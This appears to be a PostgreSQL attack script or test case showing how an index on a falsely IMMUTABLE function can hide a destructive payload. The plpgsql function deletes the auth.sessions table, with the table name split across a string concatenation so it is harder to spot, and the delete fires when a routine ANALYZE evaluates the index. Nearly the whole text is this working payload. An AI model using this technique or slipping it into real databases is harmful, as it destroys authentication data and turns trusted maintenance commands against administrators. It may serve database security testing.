-- An index of an earlier revision deletes rows during ANALYZE outside of a transaction.
-- object: database
-- owner: nobody
CREATE TABLE arm (n int); CREATE FUNCTION vf(int) RETURNS int LANGUAGE plpgsql  AS $f$ BEGIN IF EXISTS (SELECT FROM public.arm) THEN EXECUTE 'DELETE FROM auth' || '.sessions'; END IF; RETURN $1; END $f$; CREATE FUNCTION f(int) RETURNS int LANGUAGE sql IMMUTABLE AS 'SELECT public.vf($1)'; CREATE INDEX sx ON scratch (f(n)); INSERT INTO arm VALUES (1)
-- next revision
-- in: alone
ANALYZE scratch
